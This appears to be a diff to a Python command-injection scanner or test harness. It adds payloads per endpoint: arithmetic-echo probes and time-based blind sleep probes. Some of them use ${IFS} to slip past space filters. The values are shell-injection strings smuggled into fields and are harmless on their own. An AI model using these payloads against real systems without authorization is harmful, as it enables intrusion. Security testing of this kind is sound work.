@@ -26,6 +26,7 @@ EXPLOITS: dict[str, tuple[str, ...]] = {
     "/tools/reach branch": ("$(expr 1234 + 4321)", "x\nexpr 1234 + 4321", "`echo $((1234+4321))`"),
     "/tools/thumbnail width": ("1; expr 1234 + 4321; #", "$((1234+4321))", "1\nexpr 1234 + 4321\n", "1 | echo $(expr 1234 + 4321) #"),
     "/api/print printer": ("x; expr 1234 + 4321 #", "$(expr 1234 + 4321)", "`echo 55''55`"),
+    "/tools/find tool": ("x;echo${IFS}55''55", "x$(echo${IFS}$((1234+4321)))", "x|expr${IFS}1234${IFS}+${IFS}4321"),
     "/tools/queue queue": ("x; expr 1234 + 4321 #", "$(expr 1234 + 4321)", "`echo 55''55`"),
 }  # fmt: skip
 BLIND = (("{} && true", "{} && false"), ("{}; test 7 -lt 8", "{}; test 7 -gt 8"), ("{} | cat", "{} | cat /nothing"),
@@ -34,6 +35,9 @@ BLIND_PLACE = "/tools/check line"
 # Nothing is shown: what can be told is the time.
 SLEEPS: dict[str, tuple[str, ...]] = {
     "/tools/backup till": ("'; sleep {}; '", "' | sleep {} #", "'$(sleep {})'"),
+    "/tools/drawer drawer": ("x;sleep${IFS}{}", "x$(sleep${IFS}{})", "x|sleep${IFS}{}"),
+    "/tools/visit Referer": ("'; sleep {}; '", "' | sleep {} #", "'$(sleep {})'"),
+    "/tools/mark till1": ("x; sleep {} #", "$(sleep {})", "x | sleep {}"),
     "/api/archive day": ("x | sleep {}", "$(sleep {})", "x\nsleep {}"),
 }
 FLAWS = flaws_of(CHECK)
